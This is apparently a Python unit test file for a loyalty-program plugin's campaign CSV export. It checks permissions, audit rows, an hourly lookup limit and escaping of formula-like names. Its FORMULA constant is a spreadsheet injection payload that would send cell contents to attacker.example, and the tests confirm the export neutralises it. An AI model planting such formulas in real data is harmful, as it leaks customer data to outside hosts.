"""The campaign CSV export and the lists' routes (plugins/loyalty_tiers/growth_routes.py, issue 18).

The plugin's own access code (access.py) decides, with only Airflow's two outside parts replaced:
the auth manager's answer (may this user edit the DAG?) and the audit table (a list the rows go
to, which the hourly limit reads back). tests/integration/test_ui_growth.py runs them for real.
"""

from __future__ import annotations

import csv
import io
import json
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from include.tier_sync import dashboard, spreadsheet
from include.tier_sync.customer_access import DENIED_EVENT, LIMITED_EVENT, LOOKUP_EVENT
from tests.unit.test_dashboard_growth import AS_OF, DAY, World

pytestmark = pytest.mark.unit

REPO = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A2,"Reward")'


def campaign_world() -> World:
    w = World()
    # Bloom by value; returning the recent $100.00 purchase drops them: at risk.
    w.add("c_formula", (74_999, AS_OF - 200 * DAY), (10_000, AS_OF - 5 * DAY), name=FORMULA)
    # $50.00 short of Bloom: growing.
    w.add("c_plus", (70_000, AS_OF - 60 * DAY), name="+1 555 0100")
    # Seed on the first run, Sprout by three purchases only on the second: moved up, and the
    # streak ends after the window.
    w.add("c_at", (500, AS_OF - 20 * DAY), (500, AS_OF - 2 * DAY), (500, AS_OF - DAY), name="@x", loyalty=True)
    w.add("c_plain", (200_000, AS_OF - 100 * DAY), name="Zoë Plain")
    return w


@pytest.fixture
def client(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    from fastapi.testclient import TestClient

    url = campaign_world().build(str(tmp_path / "data"), [AS_OF - DAY, AS_OF])
    monkeypatch.syspath_prepend(str(REPO / "plugins"))
    for name in ("loyalty_tiers.app", "loyalty_tiers.growth_routes"):
        sys.modules.pop(name, None)
    import loyalty_tiers.access as access  # type: ignore[import-not-found]
    from loyalty_tiers.app import app, require_user  # type: ignore[import-not-found]

    audit: list[dict[str, Any]] = []
    allowed = {"customers": True}

    def write_audit(event: str, user: Any, request: Any, action: str, ids: list[str], total: int | None = None) -> None:
        audit.append({"event": event, "action": action, "ids": ids, "total": total, "dttm": datetime.now(UTC)})

    monkeypatch.setattr(access, "write_audit", write_audit)
    monkeypatch.setattr(access, "can_view_customers", lambda user: allowed["customers"])
    monkeypatch.setattr(access, "_recent_lookups", lambda user, now: [a["dttm"] for a in audit if a["event"] == LOOKUP_EVENT])
    monkeypatch.setenv("AIRFLOW_VAR_TIER_SYNC_DATA_DIR", url)
    monkeypatch.setenv("AIRFLOW_VAR_TIER_SYNC_CUSTOMER_LOOKUPS_PER_HOUR", "4")
    for unset in ("RULES", "RETURN_WINDOW_DAYS", "GROWING_DISTANCE"):  # blank: the defaults, no DB asked
        monkeypatch.setenv(f"AIRFLOW_VAR_TIER_SYNC_{unset}", "")
    dashboard.clear_cache()
    app.dependency_overrides[require_user] = lambda: {"name": "test"}
    try:
        yield TestClient(app), audit, allowed
    finally:
        app.dependency_overrides.clear()
        dashboard.clear_cache()


def test_the_export_is_spreadsheet_safe_and_audited(client: Any) -> None:
    http, audit, _ = client
    resp = http.get("/api/campaign.csv")
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-disposition"] == 'attachment; filename="loyalty-campaign-20261125T020000Z.csv"'
    assert resp.headers["content-type"].startswith("text/csv") and resp.headers["cache-control"] == "no-store"
    assert resp.content.startswith(spreadsheet.BOM)
    rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))
    by_kind = {(r["Customer ID"], r["Kind"]): r for r in rows}
    assert set(by_kind) == {("c_formula", "return"), ("c_at", "streak"), ("c_at", "moved_up"), ("c_plus", "near_next")}
    # Formula-looking names are neutralised; plain text and amounts are not.
    assert by_kind[("c_formula", "return")]["Name"] == "'" + FORMULA
    assert by_kind[("c_plus", "near_next")]["Name"] == "'+1 555 0100"
    assert by_kind[("c_at", "streak")]["Name"] == "'@x"
    assert spreadsheet.unsafe_cells(resp.content) == []
    formula = by_kind[("c_formula", "return")]
    assert (formula["List"], formula["Amount"], formula["To Tier"]) == ("at risk", "100.00", "Sprout")
    assert formula["Lifetime Value"] == "849.99" and formula["Email"] == "c_formula@example.com"
    assert by_kind[("c_plus", "near_next")]["Amount"] == "50.00"
    # The raw reader gives back exactly what the till holds.
    raw = spreadsheet.read_raw_csv(resp.content)
    assert FORMULA in raw["Name"].tolist()
    # One audit row: the exported customers' ids, no name.
    (row,) = audit
    assert (row["event"], row["action"], row["total"]) == (LOOKUP_EVENT, "campaign_export", 3)
    assert sorted(row["ids"]) == ["c_at", "c_formula", "c_plus"]  # c_at once, though on two lists
    # One list only.
    growing = http.get("/api/campaign.csv", params={"lists": "growing"}).content.decode("utf-8-sig")
    assert [r["Kind"] for r in csv.DictReader(io.StringIO(growing))] == ["moved_up", "near_next"]


def test_without_the_permission_counts_only_and_403_on_the_export(client: Any) -> None:
    http, audit, allowed = client
    allowed["customers"] = False
    resp = http.get("/api/campaign.csv")
    assert resp.status_code == 403 and "edit on the DAG customer_tier_sync" in resp.json()["detail"]
    assert FORMULA not in resp.text
    assert [(a["event"], a["action"]) for a in audit] == [(DENIED_EVENT, "campaign_export")]
    risk = http.get("/api/at-risk-full").json()
    assert risk["customers"] == [] and risk["customers_visible"] is False
    assert risk["counts"]["by_kind"] == {"next_run": 0, "return": 1, "streak": 1}
    assert risk["counts"]["by_tier"]["return"]["Bloom"] == 1
    grow = http.get("/api/growing").json()
    assert grow["customers"] == [] and grow["counts"]["by_kind"] == {"moved_up": 1, "near_next": 1}
    assert len(audit) == 1  # counts are aggregates: nothing more on record


def test_the_lists_with_the_permission_and_the_hourly_limit(client: Any) -> None:
    http, audit, _ = client
    risk = http.get("/api/at-risk-full", params={"kind": "return"}).json()
    assert [c["customer_id"] for c in risk["customers"]] == ["c_formula"] and risk["customers_visible"] is True
    assert risk["customers"][0]["purchase"]["amount"]["dollars"] == "100.00"
    grow = http.get("/api/growing").json()
    assert grow["counts"]["by_kind"] == {"moved_up": 1, "near_next": 1}
    assert grow["counts"]["by_tier"]["moved_up"]["Sprout"] == 1
    assert [(a["action"], a["ids"]) for a in audit] == [("at_risk_full", ["c_formula"]), ("growing", ["c_at", "c_plus"])]
    assert http.get("/api/at-risk-full", params={"kind": "nope"}).status_code == 422
    assert http.get("/api/growing", params={"runs": 0}).status_code == 422
    assert http.get("/api/campaign.csv", params={"lists": "everyone"}).status_code == 422
    assert http.get("/api/campaign.csv").status_code == 200
    assert http.get("/api/campaign.csv").status_code == 200  # the 4th lookup of this hour
    limited = http.get("/api/campaign.csv")
    assert limited.status_code == 429 and int(limited.headers["retry-after"]) > 0
    assert audit[-1]["event"] == LIMITED_EVENT
    assert http.get("/static/growth.js").status_code == 200


def test_a_bad_setting_is_a_500_naming_the_variable(client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    http, _, _ = client
    monkeypatch.setenv("AIRFLOW_VAR_TIER_SYNC_GROWING_DISTANCE", "-5")
    dashboard.clear_cache()
    resp = http.get("/api/growing")
    assert resp.status_code == 500 and "tier_sync_growing_distance" in json.dumps(resp.json())
